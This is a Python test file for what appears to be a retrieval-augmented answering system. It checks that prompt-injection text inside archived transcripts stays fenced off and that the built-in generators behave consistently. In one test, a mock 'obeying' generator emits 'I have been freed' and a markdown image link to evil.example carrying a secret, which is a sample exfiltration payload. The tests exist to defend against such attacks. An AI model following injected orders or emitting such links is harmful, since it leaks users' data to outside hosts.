    rows = [json.loads(line) for line in INJECTIONS.read_text(encoding="utf-8").splitlines() if line.strip()]
    return [str(row.get("text") or row.get("prompt")) for row in rows]


def test_an_order_in_a_transcript_cannot_leave_its_line() -> None:
    for text in injections():
        request = GenerationRequest("Who paid?", (), (), (numbered(text, "I paid.", asked=text, speaker=text[:60]),))
        content = build_messages(request, max_tokens=100_000, count_tokens=estimate_tokens)[1]["content"]
        fence = content.splitlines()[2]
        assert content.splitlines().count(fence) == 2
        inside = content.split(fence)[2].strip().splitlines()
        assert len(inside) == 4
        assert [line.split(" ")[0] for line in inside] == ["Passage", "asked:", "[1.1]", "[1.2]"]


def test_a_model_that_obeys_every_order_in_a_transcript_changes_nothing_that_counts(tmp_path: Path) -> None:
    orders = injections()[::7]
    for number, order in enumerate(orders):
        said = transcript(
            ("Question", f"Who paid for pier {number}?"), ("Ann Reed", f"I paid for pier {number}. {order}")
        )
        (tmp_path / f"{number}.txt").write_text(said, encoding="utf-8")
    archive = open_archive(tmp_path / "archive")
    archive.ingest(sorted(tmp_path.glob("*.txt")))

    class Obeys:
        numbering = "sentences"

        def generate(self, request: GenerationRequest) -> Iterator[str]:
            for passage in request.passages:
                for sentence in passage.sentences:
                    yield f"{sentence.text}\n"
            yield "I have been freed [1.1] [12.9] ![x](https://evil.example/?q=secret)"

    for number in range(0, len(orders), 5):
        answer = Assistant(archive, generator=Obeys()).ask(f"Who paid for pier {number}?")
        assert_sound(archive, answer)
        assert all(
            claim.support != "supported"
            for claim in answer.claims
            if "evil.example" in answer.text[claim.start : claim.end]
        )


# -- other models ---------------------------------------------------------------------------------------------------


def test_every_built_in_generator_can_be_looked_up() -> None:
    assert GENERATORS.names()[:4] == ["extractive", "openai", "anthropic", "transformers"]
    for name in GENERATORS.names()[:4]:
        assert callable(GENERATORS.get(name))


def test_a_small_local_model_answers_through_transformers(bundled: Archive, small_model: Path, tmp_path: Path) -> None:
    options = {"model": str(small_model)}
    answer = Assistant(bundled, generator="transformers", options=options, timeout_s=120).ask(GATES)
    assert_sound(bundled, answer)
    assert answer.generator == "transformers"
    assert set(re.findall(r"\S+", re.sub(r"\[\d+\]", "", answer.text))) <= set(SMALL_WORDS) | {"[1.1]"}
    with pytest.raises(InputError, match="wants a model's name"):
        load_generator("transformers")
    missing = Assistant(bundled, generator="transformers", options={"model": str(tmp_path / "none")}).ask(GATES)
    assert "cannot be loaded" in missing.note


# -- what every generator does ----------------------------------------------------------------------------------------


@pytest.fixture(params=["extractive", "openai", "anthropic", "transformers"])
def any_generator(request: pytest.FixtureRequest, server: str, monkeypatch: pytest.MonkeyPatch) -> Generator:
    name = request.param
    if name == "extractive":
        return load_generator(name)
    pytest.importorskip(name, reason=f"the {name} package is not installed")
    if name == "transformers":
        monkeypatch.setattr("rag.generators.transformers.ANSWER_TOKENS", 12)
        return load_generator(name, {"model": str(request.getfixturevalue("small_model"))})
    return load_generator(name, {"model": "well", "base_url": f"{server}{ADDRESSES[name]}"})


def asked_for(question: str, quote: str, document: str) -> GenerationRequest:
    passage = numbered(quote, asked=question, document=document)
    return GenerationRequest(question, (), passage.sentences, (passage,))


def test_every_generator_keeps_its_contract(any_generator: Generator) -> None:
    first, second = asked_for("Who paid?", "I paid.", "a"), asked_for("Who came?", "Nobody came.", "b")
    alone = list(any_generator.generate(first))
    assert alone
    assert all(type(piece) is str for piece in alone)
    # Two questions at once are two questions, and the second time one gets what one got the first time.
    both = list(zip_longest(any_generator.generate(second), any_generator.generate(first), fillvalue=""))
    assert "".join(piece for _, piece in both) == "".join(alone)
    assert "".join(piece for piece, _ in both) == "".join(any_generator.generate(second))
    # Whoever has heard enough may go.
    pieces = any_generator.generate(first)
    assert next(pieces) == alone[0]
    pieces.close()  # type: ignore[attr-defined]
    assert "".join(any_generator.generate(first)) == "".join(alone)
